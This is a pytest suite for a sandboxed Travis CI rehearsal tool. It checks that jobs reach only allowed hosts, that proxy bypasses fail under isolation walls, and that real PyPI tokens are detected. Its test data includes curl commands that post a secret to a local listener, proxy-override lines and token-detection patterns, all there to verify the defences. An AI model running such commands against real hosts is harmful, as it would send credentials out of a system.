"""Which hosts a rehearsed job reaches, and that its summary says what was seen and no more."""

from __future__ import annotations

import os
import subprocess
import sys
import threading
import uuid
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from helpers.index import upload_client
from helpers.travis.rehearsals import project
from pymacaroons import MACAROON_V2, Macaroon

from pypi_practice.core.data import load
from pypi_practice.core.i18n import Translator
from pypi_practice.network.connections import read_host
from pypi_practice.tokens import patterns
from pypi_practice.travis.plan import destinations, planner
from pypi_practice.travis.plan.plan_types import Event, Job
from pypi_practice.travis.run import results
from pypi_practice.travis.run.job import script, workspace

EN, ES = Translator("en", "travis/messages"), Translator("es", "travis/messages")
HEAD = "language: python\ninstall: skip\nscript: skip\n"
DEPLOY = "deploy:\n  provider: script\n  on: main\n  script: "
REAL = (
    "pypi-"
    + Macaroon(
        location="pypi.org", identifier=str(uuid.uuid4()), key="no key", version=MACAROON_V2
    ).serialize()
)

SANDBOX = Translator("en", "commands/sandbox")
UPSTREAM = "https://upstream.practice.invalid/"


class Listener:
    """A host that the practice index does not play; ``heard`` is what reached it."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                length = int(self.headers.get("Content-Length", 0))
                listener.heard.append(self.rfile.read(length).decode("utf-8", "replace"))
                self.send_response(200)
                self.end_headers()

            do_GET = do_POST

            def log_message(self, *arguments: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.name = f"127.0.0.1:{self.server.server_address[1]}"
        self.url = f"http://{self.name}/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def listener() -> Iterator[Listener]:
    """A server on this computer, outside the rehearsal."""
    local_listener = Listener()
    yield local_listener
    local_listener.server.shutdown()
    local_listener.server.server_close()


def summary(log: str) -> str:
    """Return what follows the jobs of a log."""
    return log.partition("==> Summary\n")[2] or log.partition(f"==> {ES('summary')}\n")[2]


# Hosts


@pytest.mark.long
def test_another_host_is_refused_and_the_summary_says_how_to_allow_it(tmp_path, travis, listener):
    text = f"{HEAD}{DEPLOY}curl --silent --data s3cr3t {listener.url}\n"
    result = travis(project(tmp_path / "demo", text), "--wall", "none")
    assert listener.heard == []
    assert EN("will_refuse", job="1.1", host=listener.name) in result.stdout
    assert f"    {EN('host_refused', host=listener.name)}\n" in summary(result.stdout)
    assert EN("nothing_published") in summary(result.stdout)


@pytest.mark.long
def test_a_host_that_is_allowed_is_reached_and_the_summary_says_so(tmp_path, travis, listener):
    text = f"{HEAD}{DEPLOY}curl --silent --data s3cr3t {listener.url}\n"
    result = travis(project(tmp_path / "demo", text), "--allow-host", listener.name, "--lang", "es")
    assert result.returncode == 0, result.stdout
    assert listener.heard == ["s3cr3t"]
    assert ES("will_reach", job="1.1", host=listener.name) in result.stdout
    assert f"    {ES('host_reached', host=listener.name)}\n" in summary(result.stdout)
    assert ES("nothing_published") not in summary(result.stdout)


@pytest.mark.long
def test_hosts_are_told_apart_in_the_summary(tmp_path, travis, listener):
    urls = (
        "https://index.example.org/legacy/",
        "http://index.example.org:8080/",
        "https://pypi.io/",
        "https://docs.pypi.org/",
        "https://other.invalid/",
    )
    text = HEAD.replace("script: skip", "script:") + "".join(
        f"  - curl --silent --data s3cr3t {url} || true\n" for url in urls
    )
    result = travis(project(tmp_path / "demo", text), "--allow-host", "other.invalid")
    printed = summary(result.stdout)
    assert printed.count(EN("host_refused", host="index.example.org")) == 1
    assert EN("host_protected", host="pypi.io") in printed
    assert EN("host_protected", host="docs.pypi.org") in printed
    assert EN("host_failed", host="other.invalid") in printed
    assert EN("host_reached", host="other.invalid") not in printed
    assert EN("nothing_published") in printed
    assert "files.pythonhosted.org" not in printed


@pytest.mark.long
def test_a_pypi_deploy_to_another_server_is_refused(tmp_path, travis, listener):
    (tmp_path / "demo").mkdir()
    (tmp_path / "demo" / "demo-1.0-py3-none-any.whl").write_bytes(upload_client.wheel())
    tool = tmp_path / "bin" / "dpl"  # stands in for the deploy tool, and does upload
    tool.parent.mkdir()
    tool.write_text(
        f"#!/bin/sh\n{sys.executable} -m twine upload -u me -p s3cr3t-value --non-interactive"
        f" --repository-url {listener.url} *.whl\n"
    )
    tool.chmod(0o755)
    text = (
        "language: python\ninstall: skip\nscript: skip\ndeploy:\n  provider: pypi\n"
        f"  username: me\n  password: $TOKEN\n  server: {listener.url}\n  on: main\n"
    )
    folder = project(tmp_path / "demo", text)
    path = f"{tool.parent}{os.pathsep}{os.environ['PATH']}"
    result = travis(folder, "--wall", "none", "--var", "TOKEN=s3cr3t-value", PATH=path)
    assert result.returncode == 1, result.stdout
    assert "Uploading distributions to" in result.stdout
    assert listener.heard == []
    assert EN("host_refused", host=listener.name) in summary(result.stdout)
    assert EN("nothing_published") in summary(result.stdout)


@pytest.mark.long
@pytest.mark.parametrize("wall", ["bubblewrap", "namespace", "landlock"])
def test_a_command_past_the_proxy_reaches_nothing(wall, tmp_path, travis, listener):
    text = f"{HEAD}{DEPLOY}env -i curl --silent --noproxy '*' --data s3cr3t {listener.url}\n"
    result = travis(project(tmp_path / "demo", text), "--wall", wall)
    assert listener.heard == []
    assert result.returncode == 1
    assert EN("nothing_published") in summary(result.stdout)


@pytest.mark.long
def test_without_a_wall_the_log_and_the_summary_say_so(tmp_path, travis, listener):
    text = f"{HEAD}{DEPLOY}env -i curl --silent --noproxy '*' --data s3cr3t {listener.url}\n"
    result = travis(project(tmp_path / "demo", text), "--wall", "none")
    assert listener.heard == ["s3cr3t"]
    warning = SANDBOX("no_wall_job", reasons="--wall none")
    assert result.stdout.count(warning) == 2
    assert warning in summary(result.stdout)


@pytest.mark.long
def test_an_index_to_install_from_takes_no_upload(tmp_path, listener):
    """Not even from a program that knows its address: only the practice index asks it, by GET."""
    environ = {name: os.environ[name] for name in ("PATH", "HOME")} | {
        "LANGUAGE": "en",
        "PYPI_PRACTICE_DATA": str(tmp_path / "data"),
        "PYPI_PRACTICE_UPSTREAM": f"{listener.url}simple/",
    }
    commands = [f"curl --silent --data a {url}" for url in (UPSTREAM, listener.url)]
    commands.append(f"curl --silent --fail {UPSTREAM}")
    result = subprocess.run(
        [sys.executable, "-m", "pypi_practice", "travis", "run", "."],
        cwd=project(tmp_path / "demo", f"{HEAD}{DEPLOY}{'; '.join(commands)}\n"),
        env=environ,
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stdout
    assert listener.heard == [""]


@pytest.mark.long
def test_what_the_shell_around_has_set_leads_no_job_elsewhere(tmp_path, travis, listener):
    folder = project(tmp_path / "demo", f"{HEAD}{DEPLOY}curl --silent --data a {listener.url}\n")
    result = travis(folder, "--wall", "none", NO_PROXY="*", no_proxy="*", ALL_PROXY=listener.url)
    assert listener.heard == []
    assert EN("host_refused", host=listener.name) in summary(result.stdout)


@pytest.mark.parametrize(
    "host",
    [
        "index.example.org",
        "Index.Example.Org.",
        "127.0.0.1",
        "[::1]",
        "::1",
        "localhost",
        "münchen.example",
        "my_index",
    ],
)
def test_hosts_that_can_be_named(host):
    assert read_host(host) == read_host(read_host(host))


@pytest.mark.long
@pytest.mark.parametrize(
    "host",
    [
        "https://a.example",
        "a.example:443",
        "a.example/",
        "*",
        "*.example",
        "",
        " ",
        "a b",
        "a,b",
        "-a",
        "a..b",
        "me@a.example",
        "a" * 70,
        ".".join(["a" * 60] * 6),
        "\x1b[2J",
        "[::1",
    ],
)
def test_a_host_that_is_none_gets_a_sentence(host, tmp_path, travis):
    with pytest.raises(ValueError):  # noqa: PT011
        read_host(host)
    if host in ("https://a.example", "\x1b[2J", ""):
        result = travis(project(tmp_path / "demo", "script: a\n"), "--allow-host", host)
        assert result.returncode == 2
        assert SANDBOX("host_name", host=ascii(host)) in result.stdout
        assert "\x1b" not in result.stdout


@pytest.mark.long
@pytest.mark.parametrize("host", ["upload.pypi.org", "test.pypi.org.", "PYPI.org"])
def test_pypi_cannot_be_allowed(host, tmp_path, travis):
    result = travis(project(tmp_path / "demo", "script: a\n"), "--allow-host", host)
    assert result.returncode == 2
    assert SANDBOX("host_protected", host=host.lower().rstrip(".")) in result.stdout


def _job(text: str) -> Job:
    import yaml

    return planner.make(yaml.safe_load(text), Event("main"), [], 1, EN).stages[0].jobs[0]


@pytest.mark.parametrize(
    ("deploy", "hosts"),
    [
        ("{provider: pypi}", []),
        ("{provider: pypi, server: 'https://test.pypi.org/legacy/'}", []),
        ("{provider: pypi, server: 'https://Index.Example.org:8443/x'}", ["index.example.org"]),
        ("{provider: pypi, server: 'https://u:p@index.example.org/'}", ["index.example.org"]),
        ("{provider: pypi, server: 'http://$WHERE/'}", ["here.example"]),
        ("{provider: pypi, server: 'http://${WHERE}:80/'}", ["here.example"]),
        ("{provider: pypi, server: $SECRET}", []),
        ("{provider: pypi, server: 'http://['}", []),
        (
            "{provider: script, script: 'twine upload --repository-url https://a.example/ dist/*'}",
            ["a.example"],
        ),
        ("{provider: script, script: 'git push https://$TOKEN@github.com/o/r'}", ["github.com"]),
        ("{provider: pypi, run: 'curl https://b.example/'}", ["b.example"]),
    ],
)
def test_a_plan_names_foreign_hosts(deploy, hosts):
    job = _job(f"env: WHERE=here.example\nscript: a\ndeploy: {deploy}\n")
    assert [host for host, _ in destinations.foreign_targets(job, job.deploys[0])] == hosts


@pytest.mark.long
def test_a_dry_run_says_before_what_a_rehearsal_refuses(tmp_path, travis):
    text = f"{HEAD}{DEPLOY}twine upload --repository-url https://a.example/ dist/*\n"
    folder = project(tmp_path / "demo", text)
    result = travis(folder, "--dry-run")
    assert f"{EN('will_refuse', job='1.1', host='a.example')}\n" in result.stdout
    result = travis(folder, "--dry-run", "--allow-host", "a.example", "--lang", "es")
    assert f"{ES('will_reach', job='1.1', host='a.example')}\n" in result.stdout


# What a job writes down itself

RECORDS = {
    "nothing": "",
    "no fields": "x",
    "no number": "x\tdpl\thttps://upload.pypi.org/legacy/",
    "a large number": f"{'9' * 5000}\tdpl\thttps://upload.pypi.org/legacy/",
    "no such deploy": "7\tsteps\thttps://upload.pypi.org/legacy/",
    "negative": "-1\tsteps\tx",
    "another way": "0\tmagic\tx",
    "many fields": "0\tsteps\tx\ty\tz",
    "digits of another script": "\u0660\tsteps\tx",
    "bytes": "\udcff\udcfe\t\t",
    "escapes": "0\tsteps\t\x1b[2J",
    "long": "0\tsteps\tx\n" * 100_000,
}


@pytest.mark.parametrize("text", RECORDS.values(), ids=RECORDS)
def test_a_record_of_nonsense_is_read_without_harm(text, tmp_path):
    file = tmp_path / "deployed"
    file.write_bytes(text.encode("utf-8", "surrogateescape"))
    assert set(results.read_deploys(file, 1)) <= {0}


@pytest.mark.skipif(os.name == "nt", reason="POSIX")
def test_a_record_that_is_no_file_is_not_waited_for(tmp_path):
    os.mkfifo(tmp_path / "fifo")
    (tmp_path / "folder").mkdir()
    (tmp_path / "link").symlink_to("/dev/zero")
    for name in ("fifo", "folder", "link", "missing"):
        assert results.read_deploys(tmp_path / name, 1) == {}


@pytest.mark.long
@pytest.mark.parametrize("text", [RECORDS[name] for name in ("no fields", "many fields", "bytes")])
def test_a_job_that_says_it_has_published_has_not(text, tmp_path, travis):
    record = "".join(f"\\x{byte:02x}" for byte in text.encode("utf-8", "surrogateescape"))
    log = "Uploading a-1-py3-none-any.whl; Skipping b-1-py3-none-any.whl because it appears to"
    text = (
        f"language: python\ninstall: skip\nscript:\n  - printf '{record}' >> $REHEARSAL_DEPLOYED\n"
        f"  - echo '{log}'\n"
        "deploy: {provider: pypi, username: __token__, password: $TOKEN, on: other}\n"
    )
    result = travis(project(tmp_path / "demo", text), "--var", "TOKEN=a-token")
    assert result.returncode == 0, result.stdout
    assert "Traceback" not in result.stdout
    printed = summary(result.stdout)
    assert "published" not in printed.replace(EN("nothing_published"), "")
    assert EN("nothing_published") in printed
    assert ".whl" not in printed


@pytest.mark.long
def test_a_file_is_published_by_the_job_whose_proxy_saw_the_index(tmp_path, travis, index):
    name = f"of_{uuid.uuid4().hex[:8]}"
    content = upload_client.wheel(name, "1.0")
    wheel = f"{name}-1.0-py3-none-any.whl"
    folder = tmp_path / "demo"
    folder.mkdir()
    (folder / wheel).write_bytes(content)
    (folder / "upload.sh").write_text(
        f"{sys.executable} -m twine upload --repository testpypi {wheel}\n"
    )
    text = f"""
language: python
install: skip
jobs:
  include:
    - script: echo {wheel}
    - script: bash upload.sh
"""
    result = travis(project(folder, text), "--var", f"TWINE_PASSWORD={index.token()}")
    assert EN("published", names=wheel, index="TestPyPI") in summary(result.stdout), result.stdout


# Values

QUOTED = {
    "plain": "{}",
    "quoted": "'\"{}\"'",
    "single": "\"'{}'\"",
    "behind a word": "__token__:{}",
    "in an option": "--password={} --verbose",
    "before": "{} and more",
}


@pytest.mark.long
@pytest.mark.parametrize("form", QUOTED.values(), ids=QUOTED)
@pytest.mark.parametrize("where", ["variable", "env", "several", "deploy", "script", "option"])
def test_a_real_token_is_seen_wherever_it_stands(form, where, tmp_path, travis):
    token = form.format(REAL)
    texts = {
        "variable": "",
        "env": f"env:\n  global:\n    - >-\n      TOKEN={token}\n",
        "several": f"env:\n  global:\n    - >-\n      A=b TOKEN={token} C=d\n",
        "deploy": f"deploy:\n  provider: script\n  on: main\n  script: >-\n    upload {token}\n",
        "script": f"after_script: >-\n  upload {token}\n",
        "option": f"deploy:\n  provider: npm\n  on: main\n  email: >-\n    {token}\n",
    }
    text = f"language: python\ninstall: skip\nscript: touch {tmp_path}/ran\n{texts[where]}"
    options = ["--var", f"TOKEN={token}"] if where == "variable" else []
    result = travis(project(tmp_path / "demo", text), *options)
    assert result.returncode == 2, result.stdout
    assert REAL not in result.stdout
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize(
    "text",
    [
        REAL,
        f'"{REAL}"',
        f"x{REAL}x",
        REAL[5:],
        f"a={REAL[:60]}",
        f"pypi-'{REAL[5:]}'",
        f"{REAL[:9]}''{REAL[9:]}",
        f"{REAL[:20]}\\\n{REAL[20:]}",
    ],
    ids=["whole", "quoted", "inside", "no prefix", "beginning", "joined", "split", "two lines"],
)
def test_a_token_in_a_text_is_found(text):
    assert patterns.contains_real(text)


def test_a_practice_token_and_other_texts_are_no_real_ones():
    index_ = load("index/addresses")["indexes"]["pypi"]
    macaroon = Macaroon(
        location=index_["practice_location"],
        identifier=str(uuid.uuid4()),
        key="k",
        version=MACAROON_V2,
    ).serialize()
    for text in (f"pypi-{macaroon}", "", "pypi-AgE", "AgEIcHlw", "AgE" * 1000, "pypi.org"):
        assert not patterns.contains_real(text)


@pytest.mark.long
def test_a_real_token_in_what_a_job_would_inherit_is_refused(tmp_path, travis):
    folder = project(tmp_path / "demo", f"install: skip\nscript: touch {tmp_path}/ran\n")
    result = travis(folder, TERM=REAL)
    assert result.returncode == 2
    assert EN("real_variable", name="TERM") in result.stdout
    assert REAL not in result.stdout
    assert not (tmp_path / "ran").exists()


@pytest.mark.long
def test_a_job_inherits_a_locale_and_no_other_name_like_one(tmp_path, travis):
    text = 'install: skip\nscript: test "$LC_CTYPE-$LC_TOKEN-$GH_TOKEN" = C.UTF-8--\n'
    folder = project(tmp_path / "demo", f"language: python\n{text}")
    result = travis(folder, LC_CTYPE="C.UTF-8", LC_TOKEN="x", GH_TOKEN="x")
    assert result.returncode == 0, result.stdout


@pytest.mark.parametrize(
    ("line", "names"),
    [
        ("NO_PROXY=*", ["NO_PROXY"]),
        ("NO_PROXY+=,*", ["NO_PROXY"]),
        ('A=b; unset "HTTPS_PROXY"', ["HTTPS_PROXY"]),
        ("A=b && export -n https_proxy", ["https_proxy"]),
        ("A=$HTTPS_PROXY", []),
        ("A=${HTTPS_PROXY}", []),
        ("MY_NO_PROXY=1", []),
        ("NO_PROXY_X=1", []),
        ("ALL_PROXY=a PIP_PROXY=b", ["ALL_PROXY", "PIP_PROXY"]),
    ],
)
def test_a_line_that_would_lead_elsewhere_is_named(line, names):
    assert sorted(script.guarded([line])) == sorted(names)


@pytest.mark.long
def test_all_that_a_job_gets_of_its_own_lies_in_one_folder(tmp_path, travis):
    names = (
        "HOME",
        "TRAVIS_BUILD_DIR",
        "TMPDIR",
        "GIT_CONFIG_SYSTEM",
        "REHEARSAL_DEPLOYED",
        "VIRTUAL_ENV",
        "PIP_CACHE_DIR",
    )
    shown = " ".join(f"at=${name}" for name in names)
    text = f"language: python\ninstall: skip\nscript: echo {shown}\n"
    result = travis(project(tmp_path / "demo", text))
    (line,) = [
        candidate for candidate in result.stdout.splitlines() if candidate.startswith("at=/")
    ]
    roots = {Path(word.removeprefix("at=")).parts[:3] for word in line.split()}
    assert len(roots) == 1, line


def test_the_names_of_the_practice_environment_that_a_job_keeps_lead_nowhere_else():
    assert not {"NO_PROXY", "PIP_INDEX_URL", "HTTPS_PROXY"} & set(workspace.KEPT_PRACTICE_VARIABLES)
